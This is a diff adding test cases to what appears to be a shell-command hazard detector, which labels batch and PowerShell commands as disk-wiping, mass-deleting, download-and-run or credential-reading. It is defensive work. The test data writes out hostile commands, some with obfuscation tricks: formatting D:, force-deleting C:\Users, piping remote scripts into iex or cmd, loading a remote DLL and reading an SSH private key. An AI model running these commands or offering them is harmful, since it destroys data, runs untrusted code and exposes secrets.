@@ -82,3 +82,55 @@ test('a shell that is not bash is read, and told as not understood', async () =>
   ]);
   assert.deepEqual((await seen('rm -rf /', 'zsh')).hazards, ['shell-deletes-everything']);
 });
+
+// Names that are put together from variables (help set), and PowerShell inside of a batch file.
+expectHazards(
+  [
+    ['set a=for\nset b=mat\n%a%%b% d: /y', 'writes-disk'],
+    ['set a=xformaty\n%a:~1,6% d: /y', 'writes-disk'],
+    ['p^ower^shell -c "iex(irm http://a.example/x)"', 'dynamic fetches-file runs-download'],
+    ['set BUILD=build\nmkdir %BUILD%', ''],
+  ],
+  'batch',
+);
+expectHazards(
+  [
+    [
+      'Get-ChildItem C:\\Users -Recurse | Remove-Item -Recurse -Force',
+      'deletes deletes-around deletes-everything',
+    ],
+    ['Get-ChildItem .\\logs | Remove-Item', 'deletes deletes-around'],
+    [
+      "[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('http://a.example/a.dll'))",
+      'dynamic fetches-file runs-download',
+    ],
+  ],
+  'powershell',
+);
+
+// What was fetched and is started, on one line or on two.
+expectHazards(
+  [
+    ['curl -so %TEMP%\\a.exe http://a.example/a.exe\nstart %TEMP%\\a.exe', 'not-understood runs-download'],
+    ['curl -so data.csv http://a.example/data.csv\npython report.py data.csv', 'not-understood'],
+    ['curl -s http://a.example/x.bat | cmd', 'runs-download'],
+    ['cmd /v:on /c "set y=format& set z= D: /y& !y!!z!"', 'writes-disk'],
+    ['for /d %%d in (C:\\Users\\*) do rd /s /q "%%d"', 'deletes-around deletes-everything'],
+    ['type %USERPROFILE%\\.ssh\\id_rsa', 'reads-credentials'],
+  ],
+  'batch',
+);
+expectHazards(
+  [
+    [
+      'Invoke-WebRequest http://a.example/a.exe -OutFile a.exe; Start-Process .\\a.exe',
+      'fetches-file runs-download',
+    ],
+    ['Invoke-WebRequest https://a.example/a.csv -OutFile a.csv\nImport-Csv a.csv', 'fetches-file'],
+    [
+      "$a='Remove-'; $b='Item'; & \"$a$b\" -Recurse -Force C:\\Users",
+      'deletes deletes-around deletes-everything',
+    ],
+  ],
+  'powershell',
+);
